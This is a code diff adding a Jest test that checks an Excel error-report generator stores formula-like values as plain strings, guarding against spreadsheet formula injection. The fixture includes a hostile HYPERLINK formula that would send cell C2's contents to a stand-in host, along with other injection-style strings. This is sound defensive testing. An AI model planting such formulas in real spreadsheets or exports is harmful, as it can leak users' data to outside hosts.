@@ -45,4 +45,31 @@ describe('errorReport', () => {
       ],
     });
   });
+
+  it('echoes a bad value that looks like a formula as a string cell, never a formula', async () => {
+    const hostile = '=HYPERLINK("http://x"&C2,"y")';
+    const bytes = await errorReport(
+      [{ file: '+file.csv', row: 3, column: 'name', value: hostile, reason: '@原因' }],
+      [{ file: '-1+1.csv', row: 4, message: '=1+1' }],
+    );
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
+    const cells: ExcelJS.Cell[] = [];
+    for (const sheet of workbook.worksheets)
+      sheet.getRow(2).eachCell((cell) => {
+        if (typeof cell.value !== 'number') cells.push(cell);
+      });
+    expect(cells.map((cell) => cell.value)).toEqual([
+      '+file.csv',
+      '企业名称',
+      hostile,
+      '@原因',
+      '-1+1.csv',
+      '=1+1',
+    ]);
+    for (const cell of cells) {
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.formula).toBeUndefined();
+    }
+  });
 });
